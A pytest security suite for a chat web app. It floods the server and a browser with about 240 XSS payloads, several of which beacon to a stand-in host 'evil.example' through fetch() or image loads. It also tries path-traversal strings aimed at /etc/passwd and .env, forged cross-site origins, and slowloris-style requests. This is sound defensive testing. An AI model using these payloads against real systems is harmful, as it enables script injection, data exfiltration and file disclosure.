"""Attacks on the chat, against its real server and in a real browser: docs/chat.md has them in a table.

What is asserted is counted, too; `pytest -s` prints the figures.
"""

from __future__ import annotations

import asyncio
import json
import re
import socket
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing, suppress
from pathlib import Path
from typing import cast
from urllib.parse import quote, urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from rag import Answer, Article, Chatbot, Citation, Settings
from rag.answers import Gloss, Searched, Sentence, Side
from rag.conversation import Turn
from rag.filters import Field, Filters
from tests.asking import Asker
from tests.serving import sample_desk, served
from ui.conversations import Conversations
from ui.desk import Desk
from ui.guarding import HEADERS, reader_of

EVIL = "evil.example"
SHAPES = (
    "![x](http://{e}/?q={n})",
    "![x][r{n}]\n\n[r{n}]: http://{e}/{n}",
    "<img src=http://{e}/{n}>",
    "<img src='//{e}/{n}'>",
    "<svg onload=\"fetch('http://{e}/{n}')\">",
    "<iframe src=http://{e}/{n}></iframe>",
    "<link rel=stylesheet href=http://{e}/{n}>",
    "<meta http-equiv=refresh content='0;url=http://{e}/{n}'>",
    "<style>*{{background:url(http://{e}/{n})}}</style>",
    "<p style='background:url(http://{e}/{n})'>",
    "<script>document.title='owned{n}'</script>",
    "<a href='javascript:document.title=1'>x</a>",
    "[x](javascript:document.title='owned')",
    "[x](data:text/html,<script>1</script>)",
    "<form action=http://{e}><input>",
    "<object data=http://{e}/{n}>",
    "<embed src=http://{e}/{n}>",
    "<video poster=http://{e}/{n}>",
    "<audio src=http://{e}/{n} autoplay>",
    "<base href=http://{e}>",
    "$$\\href{{http://{e}}}{{x}}$$",
    '```mermaid\ngraph TD; A-->B; click A "http://{e}/{n}"\n```',
    "${{document.title='owned'}}",
    "{{{{constructor}}}}",
    "</mark></p></section><img src=http://{e}/{n}>",
    '" onmouseover="document.title=\'owned\'" x="',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=document.title='owned'>",
    "<details open ontoggle=document.title='owned'>",
    "<input autofocus onfocus=document.title='owned'>",
    "&lt;img src=http://{e}/{n}&gt;",
)
DISGUISES = (
    lambda text: text,
    str.upper,
    lambda text: text.replace("script", "scr\tipt").replace("img", "im\u200bg"),
    lambda text: text.replace("<", "&#60;").replace(":", "&colon;"),
    quote,
    lambda text: "\u202e" + text,
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("http", "hTTp").replace(" ", "/"),
)
PAYLOADS = [
    disguise(shape.format(e=EVIL, n=number))
    for number, (shape, disguise) in enumerate((shape, disguise) for shape in SHAPES for disguise in DISGUISES)
]
AT_ONCE = 30


class HostileChatbot:
    """Has the methods of a chatbot; every answer, in every part, is made of payloads, and comes in pieces."""

    searched = Searched(2, (PAYLOADS[2],), "2024-01-02", "2024-01-03")

    def examples(self) -> list[str]:
        return PAYLOADS[:4]

    def article(self, article_id: str) -> Article:
        payload = PAYLOADS[int(article_id)]
        return Article(article_id, payload, f"{payload}\n\nMore.", payload, "2024-01-02", payload, (payload,))

    def values(self, field: Field) -> tuple[str, ...]:
        return tuple(PAYLOADS[:9])

    def stream(self, question: str, *, history: Sequence[Turn], filters: Filters, as_of: str) -> Iterator[Answer]:
        first = int(re.findall(r"\d+", question)[0])
        parts = [(number, PAYLOADS[number]) for number in range(first, min(first + AT_ONCE, len(PAYLOADS)))]
        for share in (0.3, 0.6, 1.0):
            yield self._answer(question, [(number, text[: max(1, int(len(text) * share))]) for number, text in parts])

    def _answer(self, question: str, parts: list[tuple[int, str]]) -> Answer:
        sentences, citations = [], []
        for place, (number, text) in enumerate(parts, start=1):
            article = self.article(str(number))
            facts = (article.title, article.source, article.date, article.url)
            quoted = PAYLOADS[number]
            citations.append(Citation(place, article.id, *facts, 0, len(quoted), quoted))
            sentences.append(Sentence(text, (place,), "weak", ((0, 4),), (Gloss(len(text), text),), text))
        sides = (Side(parts[0][1], 1), Side(parts[1][1], 2, "denial"))
        return Answer(
            question,
            "answered",
            tuple(sentences),
            tuple(citations),
            self.searched,
            parts[0][1],
            0.5,
            understood_as=parts[0][1],
            sides=sides,
        )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    with ExitStack() as opened:
        conversations = opened.enter_context(closing(Conversations.open(folder)))
        yield opened.enter_context(
            served(Desk(cast("Chatbot", HostileChatbot()), Settings(archive=folder), conversations))
        )


@pytest.fixture(scope="module")
def desk(sample_archive: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    with sample_desk(sample_archive, tmp_path_factory.mktemp("attacked")) as desk:
        yield desk


@pytest.fixture(scope="module")
def address(desk: Desk) -> Iterator[str]:
    with served(desk) as address:
        yield address


LIVE = """() => {
    const kinds = 'img, script, iframe, svg, link, style, meta, form, object, embed, video, audio, base, math';
    const ours = 'form.find, form.feedback, #bring-files, #bring-text';
    const ends = /^(https?:|\\/answers\\/|\\/conversations\\/|#)/i;
    const places = '#conversation *, #shown *, #card *, #filter *, body:not(:has(#conversation)) *';
    return [...document.querySelectorAll(places)].filter(e => (e.matches(kinds) && !e.matches(ours))
        || [...e.attributes].some(a => a.name.startsWith('on') || (a.name == 'style' && a.value.includes('url(')))
        || (e.tagName == 'A' && !ends.test(e.getAttribute('href')))).map(e => e.outerHTML.slice(0, 200));
}"""


def test_a1_to_a4_nothing_that_articles_or_models_write_comes_alive_anywhere(hostile: str, browser: Browser) -> None:
    assert len(PAYLOADS) >= 200
    asked, context = list[str](), browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    page.on("request", lambda request: asked.append(urlsplit(request.url).hostname or request.url[:20]))
    page.goto(hostile)
    expect(page.locator(".example")).to_have_count(4, timeout=30_000)
    for first in range(0, len(PAYLOADS), AT_ONCE):
        _ask(page, f"payloads from {first}")
        assert page.evaluate(LIVE) == []
        for number in page.locator(".turn:last-child .sentence .number").all()[:: AT_ONCE // 3]:
            number.hover()
            expect(page.locator("#card")).to_be_visible(timeout=30_000)
            number.click()
            assert page.evaluate(LIVE) == []
    page.reload()
    expect(page.locator(".turn")).to_have_count(-(-len(PAYLOADS) // AT_ONCE), timeout=30_000)
    assert page.evaluate(LIVE) == []
    for link in [each.get_attribute("href") for each in page.locator(".actions a:not([download])").all()]:
        page.goto(f"{hostile}{link}")
        assert page.evaluate(LIVE) == []
    assert {host for host in asked if host not in {"127.0.0.1", "data:,", ""}} == set()
    assert "owned" not in page.title()
    context.close()
    print(f"\nA1 to A4: {len(PAYLOADS)} payloads, {len(asked)} requests, 0 to other hosts, 0 live elements")


def _ask(page: Page, question: str) -> None:
    turns = page.locator(".turn").count()
    page.get_by_role("textbox", name="Question").fill(question)
    page.keyboard.press("Enter")
    expect(page.locator(".turn")).to_have_count(turns + 1, timeout=30_000)
    expect(page.locator(".turn").last).to_have_attribute("aria-busy", "false", timeout=60_000)


def test_a5_the_headers_are_on_every_response_also_on_those_of_faults(address: str) -> None:
    paths = ("/", "/config", "/desk/articles", "/answers/nothing", "/nothing", "/gradio_api/upload", "/theme.css")
    with httpx.Client(base_url=address) as client:
        for path in paths:
            assert {name: client.get(path).headers[name] for name in HEADERS} == HEADERS
    print(f"\nA5: {len(HEADERS)} headers on {len(paths)} of {len(paths)} kinds of response")


STEPS = (
    "../../../../etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%5c..%5cetc%5cpasswd",
    "//etc/passwd",
    "/etc/passwd",
    "%00",
    "..%c0%af..%c0%afetc/passwd",
    "\u2215etc\u2215passwd",
    "....//....//etc/passwd",
    "archive.sqlite3",
    ".env",
    "file:///etc/passwd",
)
PLACES = (
    "/desk/article?id=",
    "/desk/articles?outlet=",
    "/desk/conversations/",
    "/desk/added/",
    "/answers/",
    "/conversations/",
    "/gradio_api/file=",
    "/gradio_api/file/",
    "/file=",
    "/gradio_api/static/",
    "/static/",
    "/assets/",
    "/svelte/",
    "/gradio_api/custom_component/",
    "/gradio_api/component_server/",
    "/theme.css/",
    "/",
)


def test_a6_and_a7_no_path_leads_to_a_file(address: str, desk: Desk) -> None:
    secret = desk.settings.archive / "secret.txt"
    secret.write_text("the secret of the archive")
    steps = [*STEPS, str(secret), quote(str(secret), safe=""), "../secret.txt"]
    tried = 0
    with httpx.Client(base_url=address) as client:
        for place in PLACES:
            for step in steps:
                response = client.get(place + step)
                assert b"root:" not in response.content
                assert b"the secret" not in response.content
                assert b"SQLite format" not in response.content
                assert response.status_code < 500, place + step
                tried += 1
    print(f"\nA6, A7: {tried} paths, 0 that lead to a file")


@pytest.mark.parametrize("name", ["page.html", "page.htm"])
def test_a8_a_page_that_is_brought_in_is_never_served_as_one(address: str, name: str) -> None:
    page = (
        f"<html><head><title>Alive <script>document.title='owned'</script></title></head><body><article><h1>Alive</h1>"
        f"<p>The page said on Monday that it was alive and well, {PAYLOADS[2]} and that it would load an image.</p>"
        f"<p>&lt;script&gt;fetch('http://{EVIL}/{name}')&lt;/script&gt; stood in its second paragraph.</p>"
        "</article></body></html>"
    )
    with httpx.Client(base_url=address, headers={"Origin": address}, timeout=60) as client:
        client.get("/")
        brought = client.post("/desk/added", params={"name": name}, content=page.encode()).json()
        shown = client.get("/desk/article", params={"id": brought["articles"][0]})
        assert "<script" not in shown.text
        assert "<img" not in shown.text
        assert shown.headers["X-Content-Type-Options"] == "nosniff"
        assert client.post("/desk/added", params={"name": "x.svg"}, content=b"<svg/>").json()["articles"] == []
        assert client.delete(f"/desk/added/{brought['id']}").json()["left"] == 1


CHANGES = (
    ("POST", "/desk/feedback"),
    ("POST", "/desk/added?name=a.txt"),
    ("PATCH", "/desk/conversations/x"),
    ("DELETE", "/desk/conversations/x"),
    ("DELETE", "/desk/added/x"),
    ("POST", "/gradio_api/queue/join"),
    ("POST", "/gradio_api/reset"),
    ("POST", "/gradio_api/cancel"),
)
FOREIGN = (
    {"Origin": f"http://{EVIL}"},
    {"Origin": "null"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": f"http://{EVIL}", "Content-Type": "text/plain"},
    {"Origin": "http://127.0.0.1:1"},
)


def test_a9_another_site_changes_nothing_and_another_name_gets_nothing(address: str) -> None:
    with httpx.Client(base_url=address) as client:
        for method, path in CHANGES:
            for headers in FOREIGN:
                assert client.request(method, path, headers=headers, content=b"{}").status_code == 403
        for host in (EVIL, f"127.0.0.1.{EVIL}", "localhost.evil.example", ""):
            assert client.get("/", headers={"Host": host}).status_code == 400
    print(f"\nA9: {len(CHANGES) * len(FOREIGN)} foreign changes refused with 403, 4 of 4 foreign names with 400")


def test_a20_what_is_brought_in_takes_the_place_of_no_article(address: str, desk: Desk) -> None:
    before = list(desk.chatbot.retriever.archive.articles())
    forged = [each.to_dict() | {"date": "2030-01-01", "text": f"Forged {each.id}."} for each in before]
    with httpx.Client(base_url=address, headers={"Origin": address}, timeout=120) as client:
        client.get("/")
        lines = "\n".join(map(json.dumps, forged)).encode()
        brought = client.post("/desk/added", params={"name": "forged.jsonl"}, content=lines).json()
        assert len(brought["articles"]) == len(before)
        archive = desk.chatbot.retriever.archive
        assert [archive.article(each.id) for each in before] == before
        assert [archive.article_at(each.url) for each in before if each.url] == [each for each in before if each.url]
        assert client.delete(f"/desk/added/{brought['id']}").json()["left"] == len(before)
    assert list(desk.chatbot.retriever.archive.articles()) == before
    print(f"\nA20: {len(before)} forged articles, 0 in the place of another")


def test_a25_half_sent_requests_and_huge_heads_keep_nobody_else_waiting(address: str) -> None:
    parts = urlsplit(address)
    place = (cast("str", parts.hostname), cast("int", parts.port))
    with ExitStack() as opened:
        for _ in range(300):
            half = opened.enter_context(closing(socket.create_connection(place)))
            half.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        assert httpx.get(f"{address}/healthz", timeout=30).text == "ok"
        many = {f"x-{number}": "y" * 100 for number in range(10_000)}
        for headers in (many, {"Cookie": "a=" + "b" * 1_000_000}):
            with suppress(httpx.TransportError):  # it may be cut off before it has sent all
                assert httpx.get(f"{address}/healthz", headers=headers, timeout=30).status_code in {400, 431}
        assert httpx.get(f"{address}/healthz", timeout=30).text == "ok"


def test_a27_of_fifty_readers_at_once_none_hears_another(address: str, desk: Desk) -> None:
    async def one(number: int) -> None:
        canary = f"canary{number:02d}"
        async with httpx.AsyncClient(base_url=address, headers={"Origin": address}, timeout=120) as client:
            asker = await Asker.come(client)
            heard = await asker.ask(f"What did Zarif say about missiles, {canary}?")
            assert heard.errors == []
            assert heard.whole["done"]
            others = set(re.findall(r"canary\d\d", json.dumps(heard.updates))) - {canary}
            assert others == set()
            assert "wants to talk about missiles" in heard.whole["html"]
            reader = reader_of(dict(client.cookies))
            assert canary in next(each.title for each in desk.conversations.search(reader))

    async def fifty() -> None:
        await asyncio.gather(*(one(number) for number in range(50)))

    with ThreadPoolExecutor() as beside:  # a loop of the browser's runs in this thread
        beside.submit(asyncio.run, fifty()).result()
    print("\nA27: 50 readers at once, 50 whole answers, 0 errors, 0 words of another reader")
